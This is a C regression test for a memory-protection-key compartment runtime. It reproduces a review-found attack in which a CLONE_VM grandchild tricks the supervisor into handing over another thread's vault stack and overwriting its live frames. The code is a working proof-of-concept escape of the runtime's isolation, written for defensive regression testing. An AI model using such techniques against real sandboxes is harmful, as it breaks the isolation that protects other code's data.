// Attacker model B (raw system calls; clone and execve are allowed).
// The supervisor refuses "adopt" (after fork, the one thread left takes
// over every compartment stack its parent's threads held) to a process
// that shares its parent's memory (supervisor.c shares_parents_memory,
// now thread by thread: bh_tgid_shares_memory_of). It compares the caller
// with its parent only. A process that shares our memory need not have
// us as its parent: the default domain starts a clone(CLONE_VM) child,
// which starts a clone(CLONE_VM) grandchild and then runs another program
// (execve /bin/sleep: its memory is no longer ours) or ends (then the
// grandchild's parent is init or a subreaper; with a supervisor that may
// compare pid 1, i.e. root: built with neither macro). The grandchild, still on our
// memory, with one thread, asks to adopt: the supervisor compares it with
// its parent, finds other memory, and hands it every vault stack of our
// threads. It releases the victim thread's stack while the victim runs
// vault code on it, enters the vault itself (claiming the freed stack) and
// its vault frames overwrite the victim's live ones: two tasks on one
// compartment stack, what reviews 2 and 6 fixed. Found in the eighth
// review; reproduced in the QEMU guest (6.1): "adopt 0, release 0,
// grandchild's ppid <the child running sleep>", 992 bytes of the victim's
// locals changed. With -DCONTROL the child keeps our memory and the
// adoption is refused (first RUN line).
//
// Fixed: the supervisor refuses the adoption when any process shares the
// caller's memory (runtime/supervisor.c shares_memory, bh_each_sharer).
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread -DCONTROL %s -o %t.control && %run %t.control | FileCheck %s
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread -DEXEC %s -o %t && %run %t | FileCheck %s
// CHECK: attacks-review8-adopt-grandchild: ok
#include "Inputs/check.h"
#define BH_MAX_COMPARTMENTS 15
#define BH_STACKS_PER_ARENA 512
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/syscall.h>

extern uint32_t stack_owners[BH_MAX_COMPARTMENTS * BH_STACKS_PER_ARENA] __asm__(
    "__bulkhead_stack_owners");
#define REQUEST_FD 0x7ffffff3
enum { CLAIM = 1, RELEASE, ADOPT };

static int fds[2];
static volatile int go, child_done, slot = -1, parent_gone;
static volatile long adopt_rc = -1, release_rc = -1, ppid_seen = -1;
static volatile uint32_t new_owner;
static volatile long gpid;

BULKHEAD_ENTRY(vault) int vault_wait(int fd) {
  volatile char buf[1024];
  for (int k = 0; k < 1024; k++)
    buf[k] = 'v';
  char c;
  if (read(fd, &c, 1) != 1)
    return -1;
  int changed = 0;
  for (int k = 0; k < 1024; k++)
    changed += buf[k] != 'v';
  printf("victim, back in the vault: %d bytes of its locals changed\n", changed);
  printf("adopt %ld, release %ld, grandchild's ppid %ld, new owner %u\n",
         adopt_rc, release_rc, ppid_seen, new_owner);
  if (changed)
    puts("attacks-review8-adopt-grandchild: BROKEN: another task's vault frames overwrote the victim's");
  fflush(stdout);
  if (changed)
    _exit(1);
  return changed;
}
BULKHEAD_ENTRY(vault) int vault_scribble(void) {
  volatile char buf[1024];
  for (int k = 0; k < 1024; k++)
    buf[k] = 'Z';
  return buf[5];
}
BULKHEAD_ENTRY(vault) int vault_touch(void) { return 0; }


static long raw4(long nr, long a, long b, long c, long d) {
  long r;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return r;
}

/* The grandchild: our memory, its parent gone. */
static int grandchild(void *arg) {
  (void)arg;
  gpid = raw4(SYS_getpid, 0, 0, 0, 0);
#ifndef CONTROL
  for (long k = 0; !parent_gone && k < 2000000000L; k++)
    ;
#endif
#ifdef EXEC
  /* until the parent runs another program: comm is "sleep" */
  char path[64], comm[16] = "";
  snprintf(path, sizeof path, "/proc/%ld/comm", (long)arg);
  for (long k = 0; strncmp(comm, "sleep", 5) && k < 2000000L; k++) {
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
      if (read(fd, comm, sizeof comm - 1) < 0)
        comm[0] = 0;
      close(fd);
    }
    raw4(SYS_sched_yield, 0, 0, 0, 0);
  }
#elif !defined(CONTROL)
  for (long k = 0; raw4(SYS_getppid, 0, 0, 0, 0) == (long)arg && k < 20000000L; k++)
    raw4(SYS_sched_yield, 0, 0, 0, 0);
#endif
  ppid_seen = raw4(SYS_getppid, 0, 0, 0, 0);
#ifdef ADOPT_REQUEST /* review 27's variant (attacks-rev27-rlimit-adopt.c) */
  adopt_rc = ADOPT_REQUEST();
#else
  adopt_rc = raw4(SYS_ioctl, REQUEST_FD, ADOPT, 0, 0);
#endif
  if (adopt_rc == 0)
    release_rc = raw4(SYS_ioctl, REQUEST_FD, RELEASE, slot / BH_STACKS_PER_ARENA,
                      slot % BH_STACKS_PER_ARENA);
  if (adopt_rc == 0 && release_rc == 0) {
    vault_scribble(); /* claims the freed stack: the victim's */
    new_owner = stack_owners[slot];
  }
  child_done = 1;
  return 0;
}

static char *gstack;
/* The child: starts the grandchild with our memory, then ends. */
static int child(void *arg) {
  (void)arg;
  long me = raw4(SYS_getpid, 0, 0, 0, 0);
  long pid = clone(grandchild, gstack + (1 << 20), CLONE_VM | SIGCHLD, (void *)me);
  if (pid <= 0)
    raw4(SYS_exit, 3, 0, 0, 0);
#ifdef CONTROL
  /* the parent keeps our memory: the adoption must be refused */
  for (long k = 0; !child_done && k < 4000000000L; k++)
    ;
#elif defined(EXEC)
  char *argv[] = {"/bin/sleep", "3", NULL};
  parent_gone = 1; /* memory stays ours until the exec returns */
  raw4(SYS_execve, (long)argv[0], (long)argv, 0, 0);
#endif
  parent_gone = 1;
  raw4(SYS_exit, 0, 0, 0, 0);
  return 0;
}

static volatile int victim_ready;
static void *victim(void *arg) {
  (void)arg;
  vault_touch();
  uint32_t me = (uint32_t)syscall(SYS_gettid);
  for (int k = 0; k < BH_MAX_COMPARTMENTS * BH_STACKS_PER_ARENA; k++)
    if (stack_owners[k] == me)
      slot = k;
  CHECK(slot >= 0);
  victim_ready = 1;
  int changed = vault_wait(fds[0]);
  printf("adopt %ld, release %ld, grandchild's ppid %ld, new owner %u\n",
         adopt_rc, release_rc, ppid_seen, new_owner);
  fflush(stdout);
  if (gpid > 0)
    kill((pid_t)gpid, SIGKILL);
  if (changed) {
    puts("attacks-review8-adopt-grandchild: BROKEN: another task's vault frames overwrote the victim's");
    fflush(stdout);
    _exit(1);
  }
  puts("attacks-review8-adopt-grandchild: ok");
  fflush(stdout);
  exit(0);
}

int main(void) {
#ifdef BEFORE_ATTACK
  BEFORE_ATTACK();
#endif
  CHECK(pipe(fds) == 0);
  pthread_t v;
  CHECK(pthread_create(&v, NULL, victim, NULL) == 0);
  while (!victim_ready)
    sched_yield();
  size_t size = 1 << 20;
  char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  gstack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  CHECK(stack != MAP_FAILED && gstack != MAP_FAILED);
  pid_t pid = clone(child, stack + size, CLONE_VM | SIGCHLD, NULL);
  CHECK(pid > 0);
  for (int k = 0; k < 200 && !child_done; k++)
    usleep(10 * 1000);
  if (!child_done)
    printf("grandchild did not finish; adopt %ld ppid %ld\n", adopt_rc, ppid_seen);
  CHECK(write(fds[1], "x", 1) == 1);
  pause();
}
